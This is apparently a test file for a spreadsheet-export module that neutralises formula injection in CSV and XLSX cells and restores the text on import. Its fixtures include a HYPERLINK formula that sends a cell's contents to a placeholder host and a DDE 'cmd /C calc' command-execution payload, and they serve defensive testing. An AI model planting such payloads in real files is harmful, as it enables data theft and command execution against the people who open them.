import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, protectApostrophe, restoreFormulaText } from './spreadsheet-text';

const formulaLike = fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'=", "''+", ' =', '\u00a0+', '＝', "' ＠"), fc.string()).map(([a, b]) => a + b);
const anyText = fc.oneof(fc.string(), formulaLike);

describe('spreadsheet text', () => {
  it.each([
    ['=HYPERLINK("http://x?x="&A1,"x")', `'=HYPERLINK("http://x?x="&A1,"x")`],
    ['+SUM(1+1)', "'+SUM(1+1)"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ["'=1", "''=1"],
    ['  =1+1', "'  =1+1"],
    ['＝1+1', "'＝1+1"],
    ["' -1", "'' -1"],
    ['Azúcar', 'Azúcar'],
    ["'hola", "'hola"],
  ])('neutralises %j as %j', (value, written) => {
    expect(neutraliseFormula(value)).toBe(written);
    expect(restoreFormulaText(written)).toBe(value);
  });

  it('no neutralised text starts a formula, and the import gets every text back exactly (CSV and XLSX)', () => {
    fc.assert(
      fc.property(anyText, (value) => {
        expect(neutraliseFormula(value)).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r]/);
        expect(restoreFormulaText(neutraliseFormula(value))).toBe(value);
        expect(restoreFormulaText(protectApostrophe(value))).toBe(value);
      }),
    );
  });

  it('XLSX text cells keep formula-like text as it is; only the apostrophe the import would remove is doubled', () => {
    expect(protectApostrophe('=1+1')).toBe('=1+1');
    expect(protectApostrophe("'=1+1")).toBe("''=1+1");
    expect(protectApostrophe("'hola")).toBe("'hola");
  });
});
